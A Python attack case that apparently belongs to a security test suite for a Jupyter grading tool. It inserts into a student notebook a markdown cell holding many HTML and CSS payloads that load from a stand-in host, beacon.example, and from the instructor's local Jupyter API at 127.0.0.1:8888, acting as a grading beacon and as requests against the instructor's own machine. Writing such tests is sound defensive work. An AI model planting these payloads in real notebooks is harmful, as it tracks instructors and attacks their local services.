"""Writes markdown cells whose images, styles, frames and forms load from outside when formgrader
shows them: a beacon that tells the student when the instructor grades, and requests from the
instructor's browser to the services on its own machine (the Jupyter server's API).

kind: edit
proof: ATTACK-REMOTE-MARKDOWN
"""

import json

BEACON = "https://beacon.example/seen.png?student=me"
LOCAL = "http://127.0.0.1:8888/api/contents"
MARKDOWN = f"""ATTACK-REMOTE-MARKDOWN
![beacon]({BEACON}) ![protocol-relative](//beacon.example/x.png) ![local]({LOCAL}/a.png)
<img src="{LOCAL}/secret"> <img srcset="{BEACON} 1x, //beacon.example/2x.png 2x">
<div style="background:url({BEACON})">styled</div>
<style>@import url({BEACON}); body {{ background: url({LOCAL}) }}</style>
<link rel="stylesheet" href="{BEACON}"><link rel="prefetch" href="{LOCAL}">
<svg><image href="{BEACON}"/><use xlink:href="{LOCAL}#x"/></svg>
<iframe src="{LOCAL}"></iframe><object data="{BEACON}"></object><embed src="{BEACON}">
<video src="{BEACON}" poster="{LOCAL}"><source src="{BEACON}"></video><audio src="{LOCAL}"></audio>
<form action="{LOCAL}"><input type="image" src="{BEACON}"></form>
<meta http-equiv="refresh" content="0; url={BEACON}"><base href="https://beacon.example/">
"""


def edit(folder):
    path = folder / "tp1.ipynb"
    notebook = json.loads(path.read_text())
    notebook["cells"].insert(1, {"cell_type": "markdown", "metadata": {}, "source": MARKDOWN})
    notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "![x](attachment:x.svg)",
                              "attachments": {"x.svg": {"image/svg+xml": f'<svg><image href="{BEACON}"/></svg>'}}})  # fmt: skip
    path.write_text(json.dumps(notebook))
